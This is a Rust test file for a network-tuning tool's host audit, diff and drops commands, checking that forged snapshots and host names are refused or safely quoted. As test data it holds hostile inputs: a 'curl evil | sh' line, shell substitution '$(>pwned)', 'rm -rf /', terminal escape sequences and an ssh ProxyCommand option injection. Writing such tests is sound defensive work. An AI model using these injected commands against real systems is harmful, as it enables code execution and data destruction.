//! A stranger's snapshot, recording and host name: nothing in them begins a line, moves the cursor or is run.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::actors::linerate::linerate;

/// A real snapshot in which a stranger has written what they like.
fn forged(folder: &TempDir, change: impl FnOnce(&mut Value)) -> String {
    let real = Path::new(env!("CARGO_MANIFEST_DIR")).join("../audit/tests/snapshot.json");
    let mut snapshot: Value = serde_json::from_str(&fs::read_to_string(real).unwrap()).unwrap();
    change(&mut snapshot);
    let path = folder.path().join("theirs.json");
    fs::write(&path, snapshot.to_string()).unwrap();
    path.to_str().unwrap().to_owned()
}

fn interface(snapshot: &mut Value) -> &mut Value {
    let interfaces = snapshot["namespaces"][0]["interfaces"].as_array_mut().unwrap();
    interfaces.iter_mut().find(|interface| interface["name"] == "eth0").unwrap()
}

#[test]
fn a_device_that_no_kernel_names_so_is_refused_with_its_place() {
    let folder = TempDir::new().unwrap();
    for name in ["eth0\n      do  curl evil | sh", "a b", "../eth0", "sixteen-letters-", "eth\u{1b}[2J"] {
        let path = forged(&folder, |snapshot| interface(snapshot)["name"] = json!(name));
        let ended = linerate(&["host", "audit", &path, "--target-rate", "10Gbit/s", "--rtt", "100ms"]);
        assert_eq!((ended.code, ended.stdout.as_str()), (Some(9), ""), "{name:?}: {}", ended.stderr);
        assert!(ended.stderr.contains("is not the name of a network device"), "{}", ended.stderr);
        assert!(!ended.stderr.lines().any(|line| line.trim_start().starts_with("do ")), "{}", ended.stderr);
        assert!(!ended.stderr.contains('\u{1b}'), "{:?}", ended.stderr);
    }
}

#[test]
fn a_name_that_a_shell_would_run_is_one_word_in_every_command() {
    let folder = TempDir::new().unwrap();
    // The kernel takes such a name.
    let path = forged(&folder, |snapshot| {
        let interface = interface(snapshot);
        interface["name"] = json!("$(>pwned)");
        // What a virtio_net reports is made up.
        interface["driver"] = json!({ "value": { "name": "mlx5_core" }, "source": "ioctl" });
        interface["mode"] =
            json!({ "value": { "speed_bps": 100_000_000_000_u64, "duplex": "full" }, "source": "netlink" });
        interface["rings"] =
            json!({ "value": { "rx": 256, "rx_max": 8192, "tx": 256, "tx_max": 8192 }, "source": "netlink" });
    });
    let ended =
        linerate(&["host", "audit", &path, "--target-rate", "10Gbit/s", "--rtt", "100ms", "--streams", "8", "--json"]);
    let report: Value = serde_json::from_str(&ended.stdout).unwrap();
    let steps = report["findings"].as_array().unwrap().iter().flat_map(|finding| finding["fix"].as_array().unwrap());
    let commands: Vec<&str> =
        steps.flat_map(|step| [&step["command"], &step["undo"]]).filter_map(Value::as_str).collect();
    let naming: Vec<&&str> = commands.iter().filter(|command| command.contains("pwned")).collect();
    assert!(!naming.is_empty(), "no command names the device: {commands:?}");
    for command in naming {
        let harmless = command.replace("'$(>pwned)'", "");
        assert!(!harmless.contains("pwned"), "{command}");
    }
    let text = linerate(&["host", "audit", &path, "--target-rate", "10Gbit/s", "--rtt", "100ms"]).stdout;
    assert!(text.lines().any(|line| line.trim_start().starts_with("do  ") && line.contains("'$(>pwned)'")), "{text}");
}

#[test]
fn what_a_host_calls_itself_does_not_reach_the_terminal_as_a_command() {
    let folder = TempDir::new().unwrap();
    let path = forged(&folder, |snapshot| {
        snapshot["machine"]["name"]["value"] = json!("dtn1\u{1b}]0;owned\u{7}\n      do  rm -rf /\u{202e}");
        snapshot["machine"]["operating_system"] = json!({ "value": "x\u{9b}31m", "source": "os-release" });
    });
    for words in [&["host", "audit"][..], &["host", "snapshot", "--from"], &["host", "diff"]] {
        let mut arguments = [words, &[path.as_str()]].concat();
        if words[1] == "diff" {
            arguments.push("this");
        }
        for form in [&[][..], &["--json"]] {
            let ended = linerate(&[&arguments[..], form].concat());
            for text in [&ended.stdout, &ended.stderr] {
                assert!(!text.contains(['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}']), "{arguments:?}: {text:?}");
                assert!(!text.lines().any(|line| line.starts_with("      do  rm")), "{arguments:?}: {text}");
            }
        }
    }
}

#[test]
fn a_recording_of_drops_is_shown_and_not_obeyed() {
    let folder = TempDir::new().unwrap();
    let recorded = linerate(&["host", "drops", "--for", "100ms", "--interval", "50ms", "--json"]);
    let mut line: Value = serde_json::from_str(recorded.stdout.lines().next().unwrap()).unwrap();
    line["host"] = json!("dtn\u{1b}[2J\nwarning: run this");
    let path = folder.path().join("theirs.jsonl");
    fs::write(&path, format!("{line}\n")).unwrap();
    let ended = linerate(&["host", "drops", path.to_str().unwrap()]);
    assert!(!ended.stdout.contains('\u{1b}') && !ended.stdout.contains("\nwarning: run"), "{:?}", ended.stdout);
    assert!(ended.stdout.contains("dtn␛[2J␊warning: run this"), "{}", ended.stdout);
}

#[test]
fn a_host_that_ssh_would_take_for_an_option_is_no_host() {
    let folder = TempDir::new().unwrap();
    let proof = folder.path().join("pwned");
    let option = format!("--with=-oProxyCommand=touch {}", proof.display());
    let ended = linerate(&["host", "drops", "--for", "100ms", &option]);
    assert_eq!(ended.code, Some(2), "{}", ended.stderr);
    assert!(ended.stderr.contains("is no host") && !proof.exists(), "{}", ended.stderr);
}

#[test]
fn numbers_that_no_host_has_are_refused_and_bring_nothing_down() {
    let folder = TempDir::new().unwrap();
    let path = forged(&folder, |snapshot| snapshot["machine"]["memory_bytes"]["value"] = json!(u64::MAX));
    let ended = linerate(&["host", "diff", &path, "this"]);
    assert_eq!(ended.code, Some(9), "{}", ended.stderr);
    assert!(!ended.stderr.contains("panicked"), "{}", ended.stderr);
}

#[test]
fn what_a_host_says_on_the_way_is_shown_in_its_words_and_not_obeyed() {
    let folder = TempDir::new().unwrap();
    let transport = folder.path().join("transport");
    fs::write(&transport, "printf 'ssh: \\033]0;pwned\\007no such host\\n' >&2\nexit 255\n").unwrap();
    let transport = format!("sh {}", transport.display());
    let ended = linerate(&["host", "drops", "--for", "1s", "--with", "dtn9", "--transport", &transport]);
    assert_eq!(ended.code, Some(0), "{}", ended.stderr);
    assert!(ended.stderr.contains("dtn9: ssh: ") && ended.stderr.contains("no such host"), "{}", ended.stderr);
    assert!(!ended.stderr.contains('\u{1b}') && !ended.stderr.contains("is linerate installed"), "{}", ended.stderr);
}
